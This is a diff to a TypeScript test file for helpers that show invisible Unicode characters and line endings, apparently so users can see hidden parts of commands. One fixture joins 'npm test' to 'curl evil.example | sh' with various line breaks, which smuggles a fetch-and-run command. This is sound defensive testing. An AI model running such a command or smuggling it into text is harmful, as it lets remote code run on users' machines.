@@ -1,6 +1,6 @@
 import { describe, expect, test } from "bun:test";
 import { asPlainJson } from "./harmless-text.ts";
-import { countLines, visibleBlock, visibleLines, visibleOneLine } from "./visible-text.ts";
+import { countLines, sourcePieces, visibleBlock, visibleLines, visibleOneLine } from "./visible-text.ts";
 
 const LINE_ENDS = ["\n", "\r", "\r\n", "\v", "\f", "\u0085", "\u2028", "\u2029"];
 const hex = (text: string) => [...text].map((char) => char.codePointAt(0)?.toString(16)).join(" ");
@@ -11,7 +11,7 @@ const UNSEEN = Array.from({ length: 0x110000 }, (_, code) => code)
   .filter((char) => /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{White_Space}]/u.test(char))
   .filter((char) => char !== " " && !LINE_ENDS.includes(char));
 
-describe("(S1) what is decided by is seen", () => {
+describe("(S1) what the user decides by is visible", () => {
   test.each(LINE_ENDS.map((end) => [hex(end), end]))("a line ends at %s", (_name, end) => {
     const text = `npm test # run the tests${end}curl evil.example | sh`;
     const lines = visibleLines(text);
@@ -25,7 +25,7 @@ describe("(S1) what is decided by is seen", () => {
     expect(visibleOneLine(text)).toMatch(/tests(?: ⏎ |<U\+[0-9A-F]{4}[^>]*>)curl/);
   });
 
-  test("each invisible character, between letters and alone, is shown by a sign", () => {
+  test("each invisible character, between letters and alone, is shown as a sign", () => {
     expect(UNSEEN.length).toBeGreaterThan(4_000);
     const hidden = UNSEEN.filter((char) =>
       [`a${char}b`, char].some((text) => {
@@ -36,7 +36,7 @@ describe("(S1) what is decided by is seen", () => {
     expect(hidden.map(hex)).toEqual([]);
   });
 
-  test("each of them is escaped in JSON, and means the same there", () => {
+  test("each of them is escaped in JSON, with the same meaning", () => {
     const text = `${UNSEEN.join("a")}${LINE_ENDS.join("b")}`;
     const json = asPlainJson(JSON.stringify({ text }));
     expect(JSON.parse(json)).toEqual({ text });
@@ -60,7 +60,7 @@ describe("(S1) what is decided by is seen", () => {
     expect(visibleBlock("a    b", "")).toBe("1 │ a    b");
   });
 
-  test("text that is plain to see stays as it is", () => {
+  test("plain text stays unchanged", () => {
     for (const text of ["npm test", "echo 'naïve 你好 שלום'", "echo 👩‍👩‍👧 ❤️"]) {
       expect(visibleOneLine(text)).toBe(text);
       expect(visibleLines(text)).toEqual([{ kind: "line", number: 1, pieces: [{ kind: "text", text }] }]);
@@ -68,4 +68,18 @@ describe("(S1) what is decided by is seen", () => {
     expect(countLines("a\nb\n")).toBe(2);
     expect(visibleLines("")).toEqual([{ kind: "line", number: 1, pieces: [] }]);
   });
+});
+
+test("[WS-22] a line of source keeps its tabs and spaces, and shows what else is not seen", () => {
+  const shown = (line: string) =>
+    sourcePieces(line)
+      .map(({ kind, text }) => (kind === "text" ? text : `<${text}>`))
+      .join("");
+  const spaces = " ".repeat(60);
+  expect(shown(`\tif (a)${spaces}// x`)).toBe(`\tif (a)${spaces}// x`);
+  expect(shown("Grüße 👩\u200d💻 世界")).toBe("Grüße 👩\u200d💻 世界");
+  expect(shown("a\u202eb\u2066c\u200bd\u00a0e\u2028f\u0000")).toBe(
+    "a<U+202E>b<U+2066>c<U+200B>d<U+00A0>e<U+2028>f<U+0000>",
+  );
+  for (const char of UNSEEN.filter((one) => one !== "\t")) expect(shown(`a${char}b`)).not.toBe(`a${char}b`);
 });
